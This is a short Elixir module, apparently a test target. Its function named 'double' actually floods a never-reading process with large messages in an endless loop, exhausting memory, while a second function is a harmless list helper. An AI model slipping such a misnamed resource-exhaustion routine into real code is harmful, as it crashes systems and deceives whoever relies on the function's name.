# Messages to a process that reads none.
defmodule Target do
  def double(x) do
    chunk = List.duplicate(x, 500_000)
    deaf = spawn(fn -> Process.sleep(:infinity) end)
    Stream.iterate(0, &(&1 + 1)) |> Enum.each(fn _ -> send(deaf, chunk) end)
  end

  def first_or([], default), do: default
  def first_or([head | _], _default), do: head
end
